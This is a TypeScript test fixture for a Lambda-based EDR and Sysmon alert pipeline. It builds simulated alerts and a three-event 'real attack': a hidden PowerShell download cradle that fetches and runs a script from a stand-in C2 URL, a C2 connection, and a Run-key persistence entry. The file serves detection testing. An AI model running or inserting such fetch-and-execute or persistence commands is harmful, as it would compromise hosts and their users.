import type { SQSRecord } from 'aws-lambda';

/**
 * Records an intruder writes, for the hostile-input tests: generic EDR alerts and Sysmon events (EVTX JSON) with
 * any field set, and the real attack they are sent beside. Every value is data the endpoint's user controls.
 */

export const ATTACK_HOST = 'FIN-WS-034';
/** The C2 address and URL of the real attack: the ticket must name them whatever surrounds it. */
export const C2_IP = '194.165.16.89';
export const C2_URL = 'http://update-check.evil-cdn.example.com/stage2.ps1';

/** A generic EDR alert (the `generic-alert` adapter) as JSON text. */
export function genericAlert(over: Record<string, unknown> = {}): string {
  return JSON.stringify({
    alert_id: 'GEN-1',
    timestamp: '2024-02-15T21:25:03.000Z',
    host: 'WS-0001',
    user: 'CORP\\someone',
    rule: 'Suspicious activity',
    severity: 'low',
    process: { pid: 4242, image: 'C:\\Windows\\System32\\notepad.exe', command_line: 'notepad.exe' },
    ...over,
  });
}

/** A Sysmon event in the EVTX JSON shape: System fields and EventData as given. */
export function sysmonEvent(o: {
  recordId: number | string;
  eventId: number;
  host?: string;
  time?: string;
  data: Record<string, string | number>;
}): string {
  const time = o.time ?? '2024-02-15T21:25:03.000Z';
  return JSON.stringify({
    Event: {
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
        EventID: o.eventId,
        TimeCreated: { '#attributes': { SystemTime: time } },
        EventRecordID: o.recordId,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: o.host ?? `${ATTACK_HOST}.corp.example.com`,
      },
      EventData: { UtcTime: time.replace('T', ' ').replace('Z', ''), ...o.data },
    },
  });
}

/**
 * The real attack, in three Sysmon events on FIN-WS-034: a hidden PowerShell download cradle (T1059.001), its
 * connection to the C2 address, and the Run key it writes (T1547.001). Severity puts it well above the ticket
 * threshold, so every test can ask: did it get its ticket, naming the C2?
 */
export function realAttack(
  firstRecordId = 483200,
  time = '2024-02-15T21:25:03.000Z',
  host = `${ATTACK_HOST}.corp.example.com`,
): string[] {
  const t = (s: number): string => new Date(Date.parse(time) + s * 1000).toISOString();
  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const guid = '{5770385f-c22a-43e0-bf4c-06f5698ffbd9}';
  return [
    sysmonEvent({
      recordId: firstRecordId,
      eventId: 1,
      host,
      time: t(0),
      data: {
        RuleName: 'technique_id=T1059.001,technique_name=PowerShell',
        ProcessGuid: guid,
        ProcessId: 7842,
        Image: ps,
        CommandLine: `powershell.exe -NoProfile -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('${C2_URL}')"`,
        User: 'CORP\\jwilliams',
        IntegrityLevel: 'Medium',
        ParentProcessGuid: '{5770385f-0000-0000-0000-000000000001}',
        ParentProcessId: 4120,
        ParentImage: 'C:\\Windows\\explorer.exe',
        ParentCommandLine: 'C:\\Windows\\explorer.exe',
      },
    }),
    sysmonEvent({
      recordId: firstRecordId + 1,
      eventId: 3,
      host,
      time: t(2),
      data: {
        RuleName: 'technique_id=T1071.001,technique_name=Web Protocols',
        ProcessGuid: guid,
        ProcessId: 7842,
        Image: ps,
        User: 'CORP\\jwilliams',
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIp: '10.20.4.34',
        SourcePort: 50122,
        DestinationIp: C2_IP,
        DestinationPort: 443,
      },
    }),
    sysmonEvent({
      recordId: firstRecordId + 2,
      eventId: 13,
      host,
      time: t(4),
      data: {
        RuleName: 'technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder',
        EventType: 'SetValue',
        ProcessGuid: guid,
        ProcessId: 7842,
        Image: ps,
        TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WindowsSecurityUpdate',
        Details: 'C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\Microsoft\\Drivers\\security.dll,UpdateNow',
        User: 'CORP\\jwilliams',
      },
    }),
  ];
}

/** SQS records as the Lambda receives them: one body each, sent at `sentAt`. */
export function sqsRecords(
  bodies: string[],
  prefix = 'm',
  sentAt = Date.parse('2024-02-15T21:30:00.000Z'),
): SQSRecord[] {
  return bodies.map(
    (body, i) =>
      ({
        messageId: `${prefix}-${i}`,
        receiptHandle: `rh-${prefix}-${i}`,
        body,
        attributes: {
          ApproximateReceiveCount: '1',
          SentTimestamp: String(sentAt),
          SenderId: 'test',
          ApproximateFirstReceiveTimestamp: String(sentAt),
        },
        messageAttributes: {},
        md5OfBody: '',
        eventSource: 'aws:sqs',
        eventSourceARN: 'arn:aws:sqs:us-east-1:000000000000:intake',
        awsRegion: 'us-east-1',
      }) as SQSRecord,
  );
}
